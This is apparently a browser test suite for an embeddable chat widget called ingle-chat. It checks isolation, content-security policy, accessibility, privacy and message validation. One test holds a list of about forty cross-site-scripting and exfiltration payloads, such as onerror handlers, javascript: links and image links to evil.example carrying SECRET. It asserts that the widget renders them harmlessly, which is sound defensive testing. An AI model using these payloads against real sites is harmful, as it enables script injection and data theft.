// The widget in somebody else's page: two origins, hostile styles, strict policies, keyboard and
// screen reader, and what the page learns (U55 to U58, X01 to X16).
import { mkdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { gzipSync } from "node:zlib";

import { launch } from "./lib/browser.mjs";
import { model } from "./lib/page.mjs";
import { assert, run, skip } from "./lib/report.mjs";
import { seeded } from "./lib/seeded.mjs";
import {
  findings,
  HEAR,
  OPEN_ROOTS,
  serveSite,
  serveWidget,
  tag,
  widgetDist,
} from "./lib/widget.mjs";

const found = model("stories260K");
const bytes = found ? readFileSync(found.file) : (seeded()?.bytes ?? null);
const HOSTILE = readFileSync(path.join(widgetDist, "demo.css"), "utf8");

const changed = (name) => (_, response) => {
  response.setHeader("content-type", "text/javascript");
  response.end(`${readFileSync(path.join(widgetDist, name), "utf8")}\n`);
};
const modelFile = (_, response) => response.end(bytes);

const cdn = await serveWidget({
  "/bad/frame.js": changed("frame.js"),
  "/bad/": widgetDist,
  "/listed/frame.html": (_, response) => {
    response.setHeader("content-type", "text/html");
    const html = readFileSync(path.join(widgetDist, "frame.html"), "utf8");
    response.end(html.replace('name="ingle-sites" content=""', 'name="ingle-sites" content="https://shop.example"'));
  },
  "/listed/": widgetDist,
});
const real = await serveWidget({ "/models/stories.gguf": modelFile }, { real: true });
const STRICT = {
  "content-security-policy": `default-src 'none'; script-src ${cdn.origin}; frame-src ${cdn.origin}`,
};
const SELF = {
  "content-security-policy":
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'; style-src 'self'",
};
const words = "<h1>A site</h1><p>Some words.</p><button id=other>Other</button>";
const site = await serveSite({
  "/": { body: words + tag(cdn.origin, 'heading="Ask us"') },
  "/big": { body: words + tag(cdn.origin, 'model-size="770000000"').replace("m.gguf", "big.gguf") },
  "/shared": { body: words + tag(cdn.origin, 'share="text"') },
  "/de": { body: words + tag(cdn.origin, 'lang="de" model-size="770000000"').replace("m.gguf", "de.gguf") },
  "/strict": { body: words + tag(cdn.origin), headers: STRICT },
  "/hostile": { body: `<style>${HOSTILE}</style>${words}${tag(cdn.origin, 'greeting="Hello"')}` },
  "/none": { body: words + tag(cdn.origin, 'keep="none"').replace(/model="[^"]*"/, "") },
  "/broken": { body: words + tag(cdn.origin).replace("m.gguf", "broken.gguf") },
  "/inline": { body: `<div style="height:500px">${tag(cdn.origin, 'mode="inline"')}</div>` },
  "/pale": { body: `<style>ingle-chat{--ingle-accent:#ff0;--ingle-on-accent:#fff;--ingle-surface:#222;--ingle-text:#333}</style>${words}${tag(cdn.origin)}` },
  "/bad": { body: words + tag(cdn.origin).replace("/w/ingle-chat.js", "/bad/ingle-chat.js") },
  "/bare": { body: words },
  "/real": { body: words + tag(real.origin, 'system="You tell stories." max-tokens="24" temperature="0"').replace("https://models.example/m.gguf", `${real.origin}/models/stories.gguf`) },
});
/** The same origin for page and script: the panel is a shadow root. */
const own = await serveWidget(
  {
    "/models/stories.gguf": modelFile,
    "/own": (_, response) => {
      response.setHeader("content-type", "text/html; charset=utf-8");
      for (const [name, value] of Object.entries(SELF)) response.setHeader(name, value);
      response.end(`<!doctype html><html lang=en><title>own</title>${words}${tag("", 'max-tokens="16" temperature="0"').replace("https://models.example/m.gguf", "/models/stories.gguf")}`);
    },
    "/hiding": (_, response) => {
      response.setHeader("content-type", "text/html; charset=utf-8");
      response.end(`<!doctype html><html lang=en><title>own</title><style>${HOSTILE}
        ingle-chat,ingle-chat *,ingle-chat::part(panel),[data-ui=chip]{visibility:hidden;font-size:1px!important}
        .chip{display:none!important}</style>${words}${tag("")}`);
    },
  },
  { real: true },
);
const browser = await launch({ viewport: { width: 1280, height: 800 }, colorScheme: "light" });
const shots = process.env.INGLE_SHOTS;

/** A page of the site with the widget in it. */
async function open(at, { see = true, origin = site.origin, size, scheme } = {}) {
  const page = await browser.page();
  await page.addInitScript(HEAR);
  if (see) await page.addInitScript(OPEN_ROOTS);
  if (size) await page.setViewportSize(size);
  if (scheme) await page.emulateMedia({ colorScheme: scheme });
  page.requests = [];
  page.on("request", (request) => page.requests.push(request.url()));
  await page.goto(origin + at);
  await page.waitForFunction(() => customElements.get("ingle-chat"));
  return page;
}

const element = (page, what) => page.evaluate(`document.querySelector("ingle-chat").${what}`);
const launcher = (page) => page.locator("ingle-chat").locator(".dock > button");

async function frameOf(page, name = "frame.html") {
  for (let i = 0; i < 200; i += 1) {
    const frame = page.frames().find((frame) => frame.url().endsWith(name));
    if (frame && (await frame.locator(".ingle").count())) return frame;
    await page.waitForTimeout(50);
  }
  throw new Error(`no panel among ${page.frames().map((frame) => frame.url())}`);
}

/** Opens the panel by a click and gives the place it is in. */
async function panel(page) {
  await launcher(page).click();
  return frameOf(page);
}

async function ask(page, place, text) {
  await place.locator("textarea").fill(text);
  await place.locator("textarea").press("Enter");
  await place.waitForFunction(
    () => !document.querySelector("[aria-busy]") && document.querySelector("article:not(.me)"),
  );
}

async function shot(page, name) {
  if (!shots) return;
  mkdirSync(shots, { recursive: true });
  await page.screenshot({ path: path.join(shots, `${name}.png`) });
}

const heard = (page, type) =>
  page.evaluate((type) => globalThis.heard.filter((one) => one.type === type).map(({ detail }) => detail), type);

const cases = {};

cases["U55 before the click: one small request, no cookie, no storage, no shift"] = async () => {
  const page = await open("/");
  await page.waitForTimeout(300);
  assert.deepEqual(page.requests.filter((url) => url.startsWith(cdn.origin)), [`${cdn.origin}/w/ingle-chat.js`]);
  const size = (name) => gzipSync(readFileSync(path.join(widgetDist, name)), { level: 9 }).length;
  const [script, panelSize, frameSize] = ["ingle-chat.js", "panel.js", "frame.js"].map(size);
  console.log(`note: gzip: script ${script}, panel ${panelSize}, frame ${frameSize} bytes`);
  assert.ok(script <= 6_000 && panelSize <= 40_000 && frameSize <= 40_000);
  assert.deepEqual(await page.context().cookies(), []);
  const left = await page.evaluate(async () => ({
    kept: localStorage.length + sessionStorage.length,
    shift: performance.getEntriesByType("layout-shift").length,
    globals: Object.keys(globalThis).filter((name) => /ingle/i.test(name)),
  }));
  assert.deepEqual(left, { kept: 0, shift: 0, globals: [] });
  assert.deepEqual(page.problems, []);
  await page.close();
};

cases["the click: at most two requests, the box has the focus, the page does not move"] = async () => {
  const page = await open("/");
  const before = page.requests.length;
  const box = await page.locator("h1").boundingBox();
  const place = await panel(page);
  const names = page.requests.slice(before).map((url) => new URL(url).pathname);
  assert.deepEqual(names.sort(), ["/w/frame.html", "/w/frame.js"]);
  assert.deepEqual(await page.locator("h1").boundingBox(), box);
  await place.waitForFunction(() => document.activeElement?.tagName === "TEXTAREA");
  assert.equal(await element(page, "state"), "idle");
  assert.deepEqual(await heard(page, "ingle-open"), [{ by: "visitor" }]);
  assert.match(await place.textContent(".chip"), /Nothing is sent/);
  await page.close();
};

cases["a question is answered, and the page learns numbers and no words"] = async () => {
  const page = await open("/");
  const place = await panel(page);
  await ask(page, place, "What is **bold**?");
  assert.equal(await place.locator("article:not(.me) strong").textContent(), "bold");
  assert.match(await place.locator(".foot").textContent(), /10 of 2,048 tokens/);
  assert.deepEqual(await heard(page, "ingle-ready"), [
    { model: "Echo", backend: "cpu", context: 2048, needBytes: 6 },
  ]);
  const turns = await heard(page, "ingle-turn");
  assert.deepEqual(turns.map(({ role, stop }) => [role, stop]), [["user", null], ["assistant", "stop"]]);
  assert.ok(!JSON.stringify(await page.evaluate(() => heard)).includes("bold"), "U57");
  assert.equal(await page.evaluate(() => document.querySelector("ingle-chat").export().catch(({ name }) => name)), "NotAllowedError");
  await shot(page, "widget-desktop");
  assert.deepEqual(page.problems, []);
  await page.close();
};

cases["U56 a large download is asked about, and Not now leaves nothing"] = async () => {
  const page = await open("/big");
  const place = await panel(page);
  const card = await place.textContent(".card");
  assert.match(card, /one-time download of 770.MB from models\.example/);
  assert.match(card, /separate copy for each website/);
  assert.equal(await place.locator("form").isVisible(), false);
  assert.equal(await element(page, "state"), "asking");
  await shot(page, "widget-asking");
  await place.click("[data-ui=not-now]");
  assert.equal(await element(page, "state"), "asking");
  assert.equal(await place.evaluate(() => localStorage.length + sessionStorage.length), 0);
  assert.equal(await place.evaluate(() => globalThis.engineStarts), undefined);
  assert.deepEqual(await heard(page, "ingle-close"), [{ by: "visitor" }]);
  await launcher(page).click();
  await place.click("[data-ui=download]");
  await ask(page, place, "hello");
  assert.equal(await place.locator("article:not(.me) .answer").textContent(), "hello");
  // The next visit asks nothing, and the chat of this tab is still there.
  await page.reload();
  const again = await panel(page);
  assert.equal(await again.locator(".card").count(), 0);
  assert.equal(await again.locator("article").count(), 2);
  await again.click("[data-ui=clear]");
  assert.equal(await again.evaluate(() => sessionStorage.length), 0);
  await again.evaluate(() => localStorage.clear());
  await page.close();
};

cases["U57 shared text: said by the chip, in the events and by export"] = async () => {
  const page = await open("/shared");
  const place = await panel(page);
  assert.match(await place.textContent(".chip.shared"), /This site can read this chat/);
  await ask(page, place, "secret");
  assert.deepEqual((await heard(page, "ingle-turn")).map(({ text }) => text), ["secret", "secret"]);
  const text = await page.evaluate(() => document.querySelector("ingle-chat").export());
  assert.equal(text, "user: secret\n\nassistant: secret");
  await place.click("[data-ui=clear]");
  await page.close();
};

cases["U58 Tab leaves it, Escape closes it, the focus returns; full screen on a phone"] = async () => {
  const page = await open("/");
  const place = await panel(page);
  await place.locator("textarea").focus();
  const inside = () => page.evaluate(() => document.activeElement === document.querySelector("ingle-chat"));
  let left = false;
  for (let i = 0; i < 12 && !left; i += 1) {
    await page.keyboard.press("Tab");
    left = !(await inside());
  }
  assert.ok(left, "Tab is not held");
  await place.locator("textarea").focus();
  await page.keyboard.press("Escape");
  await page.waitForFunction(() => !document.querySelector("ingle-chat").hasAttribute("open"));
  assert.ok(await launcher(page).evaluate((node) => node.getRootNode().activeElement === node));
  await page.setViewportSize({ width: 390, height: 844 });
  await launcher(page).press("Enter");
  const box = await page.locator("ingle-chat iframe").boundingBox();
  assert.deepEqual(box, { x: 0, y: 0, width: 390, height: 844 });
  assert.ok(await place.locator("[data-ui=close]").isVisible());
  await shot(page, "widget-phone");
  await place.click("[data-ui=close]");
  assert.equal(await element(page, "hasAttribute('open')"), false);
  await page.close();
};

cases["keys: Enter sends, with Shift it does not, nor while a word is composed; Stop stops"] = async () => {
  const page = await open("/");
  const place = await panel(page);
  const input = place.locator("textarea");
  await input.fill("one");
  await input.press("Shift+Enter");
  assert.equal(await input.inputValue(), "one\n");
  await input.evaluate((node) =>
    node.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true, cancelable: true })),
  );
  assert.equal(await place.locator("article").count(), 0);
  await input.fill("slow and long, so that there is time to stop it");
  await input.press("Enter");
  await place.waitForFunction(() => document.querySelector(".answer")?.textContent.length > 3);
  assert.equal(await element(page, "state"), "writing");
  await place.click("[aria-label='Stop writing']");
  await place.waitForFunction(() => !document.querySelector("[aria-busy]"));
  assert.match(await place.textContent("[data-ui=line]"), /Stopped. The text is kept/);
  assert.equal((await heard(page, "ingle-turn")).at(-1).stop, "cancelled");
  assert.equal(await place.locator("button.send").getAttribute("aria-label"), "Send");
  await page.close();
};

cases["methods: show, ask, stop, clear, hide; an open attribute at load is ignored"] = async () => {
  const page = await open("/");
  await page.evaluate(() => {
    const one = document.createElement("ingle-chat");
    one.setAttribute("open", "");
    one.id = "second";
    one.setAttribute("model", "stored:1b");
    document.body.append(one);
  });
  assert.equal(await page.locator("#second").getAttribute("open"), null);
  await page.locator("#second").evaluate((node) => node.remove());
  await element(page, "show()");
  const place = await frameOf(page);
  await element(page, "ask('from the page')");
  await place.waitForFunction(() => document.querySelector(".answer")?.textContent === "from the page");
  await element(page, "clear()");
  await place.waitForFunction(() => document.querySelectorAll("article").length === 0);
  await element(page, "hide()");
  assert.deepEqual(await heard(page, "ingle-close"), [{ by: "page" }]);
  await page.close();
};

for (const [at, code, says] of [
  ["/none", "model.missing", /no model.*has to name one/],
  ["/broken", "net.cors", /does not allow browsers/],
]) {
  cases[`trouble is one card with a way on: ${code}`] = async () => {
    const page = await open(at);
    const place = await panel(page);
    if (at === "/broken") {
      await place.locator("textarea").fill("hello");
      await place.locator("textarea").press("Enter");
    }
    await place.waitForSelector(`[data-ui="card.${code}"]`);
    assert.match(await place.textContent(".card"), says);
    assert.equal(await element(page, "state"), "trouble");
    assert.equal((await heard(page, "ingle-error"))[0].code, code);
    assert.deepEqual(await findings(place), []);
    await place.evaluate(() => sessionStorage.clear());
    await page.close();
  };
}

cases["German: launcher, question, chip"] = async () => {
  const page = await open("/de");
  const place = await panel(page);
  assert.equal(await launcher(page).getAttribute("aria-label"), "Chat schließen");
  assert.match(await place.textContent(".chip"), /Nichts wird gesendet/);
  assert.match(await place.textContent(".card"), /einmal 770.MB von models\.example/);
  assert.equal(await place.evaluate(() => document.documentElement.lang), "de");
  await page.close();
};

cases["axe finds nothing serious: closed, asking, answered, dark"] = async () => {
  for (const scheme of ["light", "dark"]) {
    const page = await open("/big", { scheme });
    assert.deepEqual(await findings(page.mainFrame()), []);
    const place = await panel(page);
    assert.deepEqual(await findings(place), [], `asking, ${scheme}`);
    await place.click("[data-ui=download]");
    await ask(page, place, "# A\n\n- one `two`\n\n```js\nlet x\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://x.example)");
    assert.deepEqual(await findings(place), [], `answered, ${scheme}`);
    await shot(page, `widget-${scheme}`);
    await place.evaluate(() => (localStorage.clear(), sessionStorage.clear()));
    await page.close();
  }
};

cases["X12 hostile styles of the page change nothing but what they may"] = async () => {
  const page = await open("/hostile");
  const place = await panel(page);
  const style = await launcher(page).evaluate((node) => {
    const { backgroundColor, borderRadius, fontSize, textTransform, letterSpacing } = getComputedStyle(node);
    return { backgroundColor, borderRadius, fontSize, textTransform, letterSpacing };
  });
  assert.deepEqual(style, {
    backgroundColor: "rgb(180, 75, 22)",
    borderRadius: "99px",
    fontSize: "14px",
    textTransform: "none",
    letterSpacing: "normal",
  });
  assert.equal(await element(page, "shadowRoot !== null"), true, "only because the test opened it");
  const frame = page.locator("ingle-chat iframe");
  assert.equal(await frame.evaluate((node) => getComputedStyle(node).transform), "none");
  assert.equal(await place.locator(".ingle").evaluate((node) => getComputedStyle(node).fontSize), "15px");
  await shot(page, "widget-hostile");
  await page.close();
};

cases["X12 a script of the page reaches neither root nor frame"] = async () => {
  const page = await open("/", { see: false });
  await element(page, "show()");
  await frameOf(page);
  const reached = await page.evaluate(() => ({
    root: document.querySelector("ingle-chat").shadowRoot,
    frames: window.length,
    found: document.querySelectorAll("iframe").length,
  }));
  assert.deepEqual(reached, { root: null, frames: 0, found: 0 });
  await page.close();
};

cases["X13 the frame's sandbox, and none on the page's own origin"] = async () => {
  const page = await open("/");
  await panel(page);
  const frame = page.locator("ingle-chat iframe");
  const [sandbox, src] = [await frame.getAttribute("sandbox"), await frame.getAttribute("src")];
  assert.equal(sandbox, "allow-scripts allow-same-origin allow-popups allow-popups-to-escape-sandbox");
  assert.notEqual(new URL(src).origin, site.origin);
  await page.close();
  const same = await open("/hiding", { origin: own.origin });
  await launcher(same).click();
  await same.locator("ingle-chat .ingle").waitFor();
  assert.equal(await same.locator("ingle-chat iframe").count(), 0);
  await same.close();
};

/** In a page: a frame of the widget beside which anybody may speak. */
async function raw(at = "/w/frame.html") {
  const page = await browser.page(`${site.origin}/bare`);
  await page.evaluate(async (url) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    await new Promise((done) => {
      frame.onload = done;
      document.body.append(frame);
    });
    const config = {
      model: "", sha256: "", size: 0, heading: "", greeting: "", placeholder: "", system: "",
      context: 2048, maxTokens: 5, temperature: 0, keep: "none", share: "none", isolation: "frame",
      inline: false, keepLoaded: false, lang: "en", scheme: "auto", askOver: 0, theme: {},
    };
    /** Greets and gives what is heard within a moment. */
    globalThis.greet = async (data, said = [{ do: "config", config }], ports = 1) => {
      const channels = Array.from({ length: ports }, () => new MessageChannel());
      const heard = [];
      for (const { port1 } of channels) port1.onmessage = ({ data }) => heard.push(data);
      frame.contentWindow.postMessage(data, new URL(url).origin, channels.map(({ port2 }) => port2));
      for (const one of said) channels[0]?.port1.postMessage(one);
      await new Promise((done) => setTimeout(done, 400));
      return heard;
    };
    Object.assign(globalThis, { config, frame });
  }, cdn.origin + at);
  return page;
}

cases["X11 messages that do not fit are ignored, and a greeting is heard once"] = async () => {
  const page = await raw();
  const nothing = await page.evaluate(async () => {
    const out = [];
    for (const data of [null, 1, "ingle", {}, { ingle: 2 }, { ingle: 1, more: 1 }, [1]]) out.push(...(await greet(data)));
    out.push(...(await greet({ ingle: 1 }, undefined, 0)), ...(await greet({ ingle: 1 }, undefined, 2)));
    return out;
  });
  assert.deepEqual(nothing, [], "bad greetings");
  const seen = await page.evaluate(async () => {
    const { config } = globalThis;
    const bad = [
      null, "ask", { do: "config" }, { do: "config", config: { ...config, more: 1 } },
      { do: "config", config: { ...config, model: 5 } }, { do: "config", config: { ...config, lang: "xx" } },
      { do: "config", config: { ...config, theme: { accent: {} } } },
      { do: "config", config: { ...config, size: Infinity } },
      { do: "ask", text: "before there is a panel" }, { do: "export", id: "1" }, { do: "eval", text: "1" },
      { do: "config", config: { ...config, heading: "x".repeat(100_001) } },
    ];
    const first = await greet({ ingle: 1 }, [...bad, { do: "config", config }, { do: "open", touch: false }]);
    const again = await greet({ ingle: 1 });
    return { first, again };
  });
  assert.deepEqual(seen.first.map(({ is, state, name }) => state ?? name ?? is), ["idle", "trouble", "error"]);
  assert.deepEqual(seen.again, [], "a second greeting");
  await page.close();
};

cases["X11 nobody but the page above is heard"] = async () => {
  const page = await raw();
  // A frame of a third origin beside the widget's, which speaks to its sibling.
  await page.evaluate(async (url) => {
    const other = document.createElement("iframe");
    other.src = url;
    await new Promise((done) => {
      other.onload = done;
      document.body.append(other);
    });
  }, `${own.origin}/w/demo.css`);
  const sibling = page.frames().find((frame) => frame.url().startsWith(own.origin));
  const heardBySibling = await sibling.evaluate(async () => {
    const { port1, port2 } = new MessageChannel();
    const heard = [];
    port1.onmessage = ({ data }) => heard.push(data);
    parent.frames[0].postMessage({ ingle: 1 }, "*", [port2]);
    port1.postMessage({ do: "open", touch: false });
    await new Promise((done) => setTimeout(done, 400));
    return heard;
  });
  assert.deepEqual(heardBySibling, []);
  const mine = await page.evaluate(() => greet({ ingle: 1 }));
  assert.equal(mine[0]?.state, "idle", "the page above still is");
  await page.close();
  const listed = await raw("/listed/frame.html");
  assert.deepEqual(await listed.evaluate(() => greet({ ingle: 1 })), [], "a site that is not listed");
  await listed.close();
};

cases["X14 a strict policy of the page, without style or connection, is enough"] = async () => {
  const page = await open("/strict");
  const place = await panel(page);
  await ask(page, place, "hello");
  assert.deepEqual(await heard(page, "csp"), []);
  assert.deepEqual(page.problems, []);
  await page.close();
};

cases["X15 a changed byte refuses to start, and says so"] = async () => {
  const page = await open("/bad");
  await launcher(page).click();
  await page.waitForFunction(() => document.querySelector("ingle-chat").state === "unsupported", null, { timeout: 60_000 });
  assert.match(await page.locator("ingle-chat p[role=alert]").textContent(), /changed on its way/);
  assert.equal((await heard(page, "ingle-error"))[0].code, "engine.module");
  await page.close();
};

/** What a model might write, each with a request, a script or a node that must not come of it. */
const PAYLOADS = [
  "<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>", "<math><mi xlink:href='javascript:pwned()'>x",
  "<details open ontoggle=pwned()>", "<style>*{background:url(//evil.example)}</style>",
  "<a href='javascript:pwned()'>x</a>", "[x](javascript:pwned())", "[x](JaVaScRiPt:pwned())",
  "[x](java\tscript:pwned())", "[x](&#106;avascript:pwned())", "[x](data:text/html,<script>pwned()</script>)",
  "[x](vbscript:pwned())", "[x](//evil.example)", '[x](https://ok.example "a\\" onmouseover=\\"pwned()")',
  "![x](https://evil.example/?q=SECRET)", "![x][r]\n\n[r]: https://evil.example/r", "[![x](https://evil.example/i)](https://ok.example)",
  "```\"><script>pwned()</script>\ncode\n```", "```html\n<img src=x onerror=pwned()>\n```", "`<img src=x onerror=pwned()>`",
  "<https://evil.example/auto>", "https://evil.example/plain", "<link rel=prefetch href=https://evil.example>",
  "<noscript><p title='</noscript><img src=x onerror=pwned()>'>", "<!--><img src=x onerror=pwned()>-->",
  "<form action=https://evil.example><button>x</button></form>", "<base href=https://evil.example>",
  "<object data=https://evil.example></object>", "<template><script>pwned()</script></template>",
  "| <img src=x onerror=pwned()> | b |\n|---|---|\n| <svg onload=pwned()> | 2 |", "- [ ] <img src=x onerror=pwned()>",
  "> <script>pwned()</script>", "# <img src=x onerror=pwned()>", "**<img src=x onerror=pwned()>**",
  "&lt;script&gt;pwned()&lt;/script&gt;", "$$\\href{javascript:pwned()}{x}$$", "```mermaid\ngraph TD; A[<img src=x onerror=pwned()>]\n```",
  "\u202Egnp.exe <b>x</b>",
];
const NODES = "a article blockquote br button code del details div em figure form h1 h2 h3 h4 h5 h6 header hr input li ol p path pre progress section slot small span strong summary svg table tbody td textarea th thead tr ul".split(" ");

cases[`X01 to X06: ${PAYLOADS.length} payloads, streamed: no script, no request, only known nodes`] = async () => {
  const page = await open("/");
  const place = await panel(page);
  await place.evaluate(() => (globalThis.pwned = () => (globalThis.wasPwned = true)));
  await ask(page, place, "first");
  const before = page.requests.length;
  for (const payload of PAYLOADS) {
    await ask(page, place, payload);
    const seen = await place.evaluate((known) => {
      const all = [...document.querySelectorAll(".ingle *")];
      return {
        unknown: all.map((node) => node.localName).filter((name) => !known.includes(name)),
        handlers: all.flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith("on") || name === "style"),
        links: [...document.querySelectorAll(".ingle a")].map((node) => node.protocol).filter((p) => !["http:", "https:", "mailto:"].includes(p)),
        pwned: globalThis.wasPwned ?? false,
      };
    }, NODES);
    assert.deepEqual(seen, { unknown: [], handlers: [], links: [], pwned: false }, payload);
  }
  // Cut at every letter: each beginning is an answer of its own.
  for (const payload of ["[x](javascript:pwned())", "![x](https://evil.example/i.png)"]) {
    for (let cut = 1; cut <= payload.length; cut += 1) await ask(page, place, payload.slice(0, cut));
  }
  assert.equal(await place.locator(".ingle img, .ingle iframe, .ingle script").count(), 0);
  assert.deepEqual(page.requests.slice(before), []);
  assert.deepEqual(page.problems, []);
  await place.evaluate(() => sessionStorage.clear());
  await page.close();
};

cases["X07 nesting without end is answered"] = async () => {
  const page = await open("/");
  const place = await panel(page);
  for (const letter of ["[", "*", ">"]) {
    await element(page, `ask(${JSON.stringify(letter)}.repeat(99_000))`);
    await place.waitForFunction(() => !document.querySelector("[aria-busy]"), null, { timeout: 60_000 });
  }
  assert.equal(await place.locator("article:not(.me)").count(), 3);
  await place.evaluate(() => sessionStorage.clear());
  await page.close();
};

cases["X10 a code box copies its source and nothing else"] = async () => {
  const page = await open("/");
  await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin: cdn.origin });
  const place = await panel(page);
  await ask(page, place, "```html\n<b>x</b>\n```");
  await place.evaluate(() => {
    navigator.clipboard.writeText = async (text) => void (globalThis.copied = text);
  });
  await place.click(".codebox button");
  assert.equal(await place.evaluate(() => globalThis.copied), "<b>x</b>");
  assert.equal(await place.locator(".codebox button").textContent(), "Copied");
  await place.evaluate(() => sessionStorage.clear());
  await page.close();
};

cases["colours that cannot be read are not used, with one warning"] = async () => {
  const page = await browser.page();
  const warnings = [];
  page.on("console", (message) => message.type() === "warning" && warnings.push(message.text()));
  await page.addInitScript(OPEN_ROOTS);
  await page.goto(`${site.origin}/pale`);
  await page.waitForFunction(() => customElements.get("ingle-chat"));
  const style = (node) => [getComputedStyle(node).backgroundColor, getComputedStyle(node).color];
  assert.deepEqual(await launcher(page).evaluate(style), ["rgb(255, 255, 0)", "rgb(0, 0, 0)"]);
  const place = await panel(page);
  assert.deepEqual(await place.locator(".send").evaluate(style), ["rgb(255, 255, 0)", "rgb(0, 0, 0)"]);
  assert.deepEqual(await place.locator(".ingle").evaluate(style), ["rgb(34, 34, 34)", "rgb(255, 255, 255)"]);
  assert.equal(warnings.filter((text) => text.includes("on-accent")).length, 1);
  await page.close();
};

cases["inline: no launcher, fills its box"] = async () => {
  const page = await open("/inline");
  const place = await frameOf(page);
  assert.equal(await launcher(page).isVisible(), false);
  assert.equal((await page.locator("ingle-chat iframe").boundingBox()).height, 498);
  assert.equal(await place.locator("[data-ui=close]").count(), 0);
  await page.close();
};

cases["U57 on its own origin the chip says so, and the page's styles cannot hide it"] = async () => {
  const page = await open("/hiding", { origin: own.origin });
  await launcher(page).click();
  const chip = page.locator("ingle-chat .chip.shared");
  await chip.waitFor();
  assert.match(await chip.textContent(), /This site can read this chat/);
  const style = await chip.evaluate((node) => {
    const { visibility, fontSize, display } = getComputedStyle(node);
    return { visibility, fontSize, display, opacity: getComputedStyle(node.getRootNode().host).opacity };
  });
  assert.deepEqual(style, { visibility: "visible", fontSize: "13px", display: "flex", opacity: "1" });
  await shot(page, "widget-shadow");
  await page.close();
};

/** A real model, through the real engine. */
async function answered(page, place) {
  await place.locator("textarea").fill("Once upon a time");
  await place.locator("textarea").press("Enter");
  const done = place.locator("article:not(.me):not([aria-busy]) .answer");
  await done.waitFor({ timeout: 200_000 });
  const text = await done.textContent();
  assert.ok(text.trim().length > 0, "an answer");
  const [ready] = await heard(page, "ingle-ready");
  assert.equal(ready.backend, "cpu");
  const turn = (await heard(page, "ingle-turn")).at(-1);
  assert.ok(turn.tokens > 0 && turn.firstWordMs >= 0, JSON.stringify(turn));
  assert.deepEqual(await heard(page, "csp"), []);
  assert.deepEqual(page.problems, []);
}

cases["X14, X16 a real model answers in the frame, under its policy, without isolation headers"] = async () => {
  if (!bytes) skip("no fixtures and no seeded model");
  const page = await open("/real");
  assert.equal(await page.evaluate(() => globalThis.crossOriginIsolated), false);
  const place = await panel(page);
  await place.evaluate(HEAR);
  await answered(page, place);
  assert.deepEqual(await place.evaluate(() => heard.filter(({ type }) => type === "csp")), []);
  const hosts = new Set(page.requests.map((url) => new URL(url).origin));
  assert.deepEqual([...hosts].sort(), [site.origin, real.origin].sort(), "nobody else was asked");
  await shot(page, "widget-real");
  await page.close();
};

cases["X14 a real model answers in a shadow root under 'self' and 'wasm-unsafe-eval' alone"] = async () => {
  if (!bytes) skip("no fixtures and no seeded model");
  const page = await open("/own", { origin: own.origin });
  await launcher(page).click();
  await answered(page, page.locator("ingle-chat"));
  await page.close();
};

cases["the demonstration in a foreign page"] = async () => {
  const page = await open("/w/demo.html?model=https://models.example/m.gguf", { origin: cdn.origin });
  await launcher(page).click();
  await page.locator("ingle-chat .ingle").waitFor();
  assert.match(await page.locator("ingle-chat h2").textContent(), /Ask about bikes/);
  await shot(page, "widget-demo");
  await page.close();
};

await run(cases, {
  after: async () => {
    await browser.close();
    for (const server of [site, cdn, real, own]) await server.close();
  },
  limitMs: 240_000,
});
